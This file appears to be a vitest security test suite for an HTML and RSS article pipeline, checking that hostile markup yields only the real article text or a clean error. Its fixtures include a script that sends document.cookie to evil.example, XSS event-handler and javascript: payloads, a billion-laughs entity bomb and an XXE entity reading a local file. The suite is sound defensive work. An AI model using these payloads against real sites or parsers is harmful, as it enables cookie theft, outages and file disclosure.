/**
 * Hostile HTML pages and feeds: active content (script, iframe, event handlers, javascript:
 * links), deep nesting, huge attributes, entity bombs and external entities. Pages are dropped
 * files (processBytes, as main reads them) or pasted text (processText). Where a page is read,
 * the check is that only its article text came through: no script text, no handler, no
 * javascript: address, and no event dated from any of them.
 */
import { expect } from 'vitest'
import { processBytes, processText, type PipelineResult } from '../../../src/main/core/pipeline'
import { freshDir, kind, writeIn, expectArticleEvent, type HostileKind } from './corpus'

const MB = 1024 * 1024

/** The real article paragraph of every hostile page: one event, 18 October 2021. */
const STORY = '<p>Russia suspended its mission to NATO on 18 October 2021, the minister said.</p>'

function page(body: string, head = '<title>Russia cuts off contact</title>'): string {
  return `<!DOCTYPE html><html><head>${head}</head><body><article><h1>Russia cuts off contact</h1>${body}${STORY}</article></body></html>`
}

/** A dropped page, read by its name's extension. */
const dropped =
  (name: string) =>
  (html: string): PipelineResult =>
    processBytes(Buffer.from(html), name)

/**
 * Only the story came through: none of `banned` is in any text or event, and no event has a
 * date other than 18 October 2021 (every hostile part carries a date of its own in 2020).
 */
function onlyTheStory(...banned: string[]) {
  return (r: PipelineResult): void => {
    expect(r.articles).toHaveLength(1)
    const all = JSON.stringify(r)
    for (const word of banned) expect(all).not.toContain(word)
    expectArticleEvent(r)
    expect(new Set(r.events.map((e) => e.when.value))).toEqual(new Set(['2021-10-18']))
  }
}

/** A billion-laughs DOCTYPE: &lol9; would expand to 10^9 "lol"s. */
function entityBomb(): string {
  let entities = '<!ENTITY lol "lol">'
  for (let i = 1; i <= 9; i++) {
    entities += `<!ENTITY lol${i} "${(i === 1 ? '&lol;' : `&lol${i - 1};`).repeat(10)}">`
  }
  return `<?xml version="1.0"?><!DOCTYPE rss [${entities}]><rss version="2.0"><channel><title>Bomb &lol9;</title><item><title>Laughs &lol9;</title><description>Russia suspended its mission to NATO on 18 October 2021. &lol9;</description></item></channel></rss>`
}

export const MARKUP_KINDS: HostileKind[] = [
  kind({
    name: 'HTML with <script>',
    yields: 'result: the story only; no script text, no event from the script’s date',
    make: () =>
      page(
        '<script>var stolen = "On 1 January 2020 the script ran"; fetch("https://evil.example/?" + document.cookie)</script>' +
          '<script type="module">import "https://evil.example/x.js" // 2 January 2020</script>',
        '<title>Russia cuts off contact</title><script>document.write("3 January 2020")</script>'
      ),
    run: dropped('script.html'),
    expect: {
      result: onlyTheStory('stolen', 'evil.example', 'cookie', 'document.write', '2020')
    }
  }),
  kind({
    name: 'HTML with <iframe>',
    yields: 'result: the story only; nothing from the frame, its srcdoc or its fallback text',
    make: () =>
      page(
        '<iframe src="https://evil.example/frame" srcdoc="<p>On 2 February 2020 the frame spoke.</p>">Fallback: 3 February 2020.</iframe>' +
          '<iframe src="javascript:alert(1)"></iframe>'
      ),
    run: dropped('iframe.html'),
    expect: { result: onlyTheStory('the frame spoke', 'Fallback', 'evil.example', 'alert', '2020') }
  }),
  kind({
    name: 'HTML with onerror and other event handlers',
    yields: 'result: the story only; no handler code in any text',
    make: () =>
      page(
        `<img src="x" onerror="alert('On 4 April 2020 it ran')">` +
          `<p onclick="steal('5 April 2020')" onmouseover="steal()">Officials met in Oslo.</p>` +
          `<svg onload="alert('6 April 2020')"><text>SVG text of 7 April 2020</text></svg>` +
          `<body onload="alert(8)">`
      ),
    run: dropped('handlers.html'),
    expect: {
      result: (r: PipelineResult) => {
        onlyTheStory('alert', 'steal', 'onerror', 'onclick', 'SVG text', '2020')(r)
        expect(r.articles[0]!.text).toContain('Officials met in Oslo.')
      }
    }
  }),
  kind({
    name: 'HTML with javascript: URLs',
    yields: 'result: the link text kept, every javascript: address gone',
    make: () =>
      page(
        `<p>As <a href="javascript:alert('On 9 May 2020')">the minister</a> said, ` +
          `<a href="JaVaScRiPt:void(fetch('//evil.example'))">talks</a> ended.</p>` +
          `<form action="javascript:alert(2)"><button formaction="javascript:alert(3)">Go</button></form>`
      ),
    run: dropped('links.html'),
    expect: {
      result: (r: PipelineResult) => {
        onlyTheStory('javascript', 'JaVaScRiPt', 'alert', 'evil.example', '2020')(r)
        expect(r.articles[0]!.text).toContain('As the minister said, talks ended.')
      }
    }
  }),
  kind({
    name: 'HTML with only script, style and template',
    yields:
      'NO_CONTENT: “The pasted text has no text to read: the page is empty or holds only markup.”',
    make: () =>
      '<html><head><style>p { color: red }</style></head><body><script>var x = "On 1 May 2020 it ran."</script>' +
      '<template><p>Hidden on 2 May 2020.</p></template><noscript>Enable JS</noscript></body></html>',
    run: (html: string) => processText(html),
    expect: {
      error: 'NO_CONTENT',
      message: /^The pasted text has no text to read: the page is empty or holds only markup\.$/
    }
  }),
  kind({
    name: 'deeply nested HTML (100,000 divs)',
    yields:
      'UNREADABLE: “deep.html could not be read: its HTML nests more than 10,000 elements deep …”',
    make: () =>
      `<html><body>${'<div>'.repeat(100_000)}${STORY}${'</div>'.repeat(100_000)}</body></html>`,
    run: dropped('deep.html'),
    expect: {
      error: 'UNREADABLE',
      message:
        /^deep\.html could not be read: its HTML nests more than 10,000 elements deep \(real pages nest a few dozen\)\.$/
    }
  }),
  kind({
    name: 'deeply nested HTML, never closed (100,000 tags)',
    yields:
      'UNREADABLE: “The pasted text could not be read: its HTML nests more than 10,000 elements deep …”',
    make: () => `<html><body>${'<div><span><b>'.repeat(33_334)}${STORY}`,
    run: (html: string) => processText(html),
    expect: {
      error: 'UNREADABLE',
      message: /^The pasted text could not be read: its HTML nests more than 10,000 elements deep/
    }
  }),
  kind({
    name: 'nested HTML within the limit (5,000 divs)',
    yields: 'result: the deep paragraph read, its event found',
    make: () =>
      `<html><body>${'<div>'.repeat(5_000)}${STORY}${'</div>'.repeat(5_000)}</body></html>`,
    run: dropped('nested.html'),
    expect: {
      result: (r: PipelineResult) => {
        onlyTheStory()(r)
        expect(r.articles[0]!.text).toBe(
          'Russia suspended its mission to NATO on 18 October 2021, the minister said.'
        )
      }
    }
  }),
  kind({
    name: '100,000 unclosed <p> tags',
    yields: 'result: not too deep (each <p> ends the one before), 100,001 paragraphs',
    make: () => `<html><body>${'<p>x.'.repeat(100_000)}${STORY}</body></html>`,
    run: dropped('paragraphs.html'),
    expect: {
      result: (r: PipelineResult) => {
        // Not "too deep": a <p> closes the open one, as browsers and the parser agree.
        expect(r.articles[0]!.text.split('\n\n')).toHaveLength(100_001)
        expect(r.events.map((e) => e.when.value)).toEqual(['2021-10-18'])
      }
    },
    timeout: 60_000
  }),
  kind({
    name: 'huge attribute value in HTML (10 MB)',
    yields: 'result: the story only; the attribute never becomes text',
    make: () =>
      page(
        `<p title="${'A'.repeat(10 * MB)}" data-x='${'B'.repeat(MB)}'>Officials met in Oslo.</p>`
      ),
    run: dropped('attribute.html'),
    expect: {
      result: (r: PipelineResult) => {
        onlyTheStory('AAAAAAAAAA', 'BBBBBBBBBB')(r)
        expect(r.articles[0]!.text).toContain('Officials met in Oslo.')
      }
    },
    timeout: 60_000
  }),
  kind({
    name: 'an XML entity bomb (billion laughs) in a feed',
    yields: 'result: one item, the entity left as written (“&lol9;”), never expanded',
    make: entityBomb,
    run: dropped('bomb.rss'),
    expect: {
      result: (r: PipelineResult) => {
        expect(r.articles).toHaveLength(1)
        expect(r.articles[0]!.title).toBe('Laughs &lol9;')
        expect(r.articles[0]!.text).toBe(
          'Russia suspended its mission to NATO on 18 October 2021. &lol9;'
        )
        expect(r.articles[0]!.source).toBe('Bomb &lol9;')
        expect(JSON.stringify(r)).not.toContain('lollol')
        expect(r.events.map((e) => e.when.value)).toEqual(['2021-10-18'])
      }
    }
  }),
  kind({
    name: 'an XML external entity (XXE) in a feed',
    yields:
      'BAD_FEED: “xxe.rss is not a readable feed: its XML is broken (External entities are not supported).”',
    make: () => {
      const secret = writeIn(freshDir('xxe'), 'secret.txt', 'SECRET-PASSWORD-42')
      return `<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY xxe SYSTEM "file://${secret}">]><rss version="2.0"><channel><title>T</title><item><title>Leak &xxe;</title><description>On 18 October 2021: &xxe;</description></item></channel></rss>`
    },
    run: dropped('xxe.rss'),
    expect: {
      error: 'BAD_FEED',
      message:
        /^xxe\.rss is not a readable feed: its XML is broken \(External entities are not supported\)\.$/
    }
  }),
  kind({
    name: 'deeply nested XML in a feed (100,000 elements)',
    yields:
      'BAD_FEED: “deep.rss is not a readable feed: its XML is broken (Maximum nested tags exceeded).”',
    make: () =>
      `<?xml version="1.0"?><rss version="2.0"><channel><title>T</title><item><title>One</title>${'<x>'.repeat(100_000)}${'</x>'.repeat(100_000)}</item></channel></rss>`,
    run: dropped('deep.rss'),
    expect: {
      error: 'BAD_FEED',
      message:
        /^deep\.rss is not a readable feed: its XML is broken \(Maximum nested tags exceeded\)\.$/
    }
  }),
  kind({
    name: 'huge attribute value in a feed (10 MB)',
    yields: 'result: the item read; the attribute never becomes text',
    make: () =>
      `<?xml version="1.0"?><rss version="2.0"><channel><title>T</title><item><title>One</title><link href="${'x'.repeat(10 * MB)}"/><description>Russia suspended its mission to NATO on 18 October 2021.</description></item></channel></rss>`,
    run: dropped('attribute.rss'),
    expect: {
      result: (r: PipelineResult) => {
        expect(r.articles).toHaveLength(1)
        expect(r.articles[0]!.text).toBe('Russia suspended its mission to NATO on 18 October 2021.')
        expect(JSON.stringify(r).length).toBeLessThan(5_000)
        expect(r.events.map((e) => e.when.value)).toEqual(['2021-10-18'])
      }
    },
    timeout: 60_000
  }),
  kind({
    name: 'a feed item with <script> and an onerror handler in its HTML',
    yields: 'result: the item text only; no script, no handler',
    make: () =>
      `<rss version="2.0"><channel><title>News</title><item><title>Cut off</title><description><![CDATA[<p>Russia suspended its mission to NATO on 18 October 2021.</p><script>alert("1 June 2020")</script><img src=x onerror="alert('2 June 2020')">]]></description></item></channel></rss>`,
    run: (xml: string) => processText(xml),
    expect: {
      result: (r: PipelineResult) => {
        expect(r.articles).toHaveLength(1)
        expect(r.articles[0]!.text).toBe('Russia suspended its mission to NATO on 18 October 2021.')
        expect(r.events.map((e) => e.when.value)).toEqual(['2021-10-18'])
      }
    }
  }),
  kind({
    name: 'a broken feed (cut off mid-item)',
    yields:
      'BAD_FEED: “cut.xml is not a readable feed: its XML is broken (…, at line 1, column …).”',
    make: () =>
      '<?xml version="1.0"?><rss version="2.0"><channel><title>News</title><item><title>One',
    run: dropped('cut.xml'),
    expect: {
      error: 'BAD_FEED',
      message:
        /^cut\.xml is not a readable feed: its XML is broken \(.+, at line 1, column \d+\)\.$/
    }
  })
]
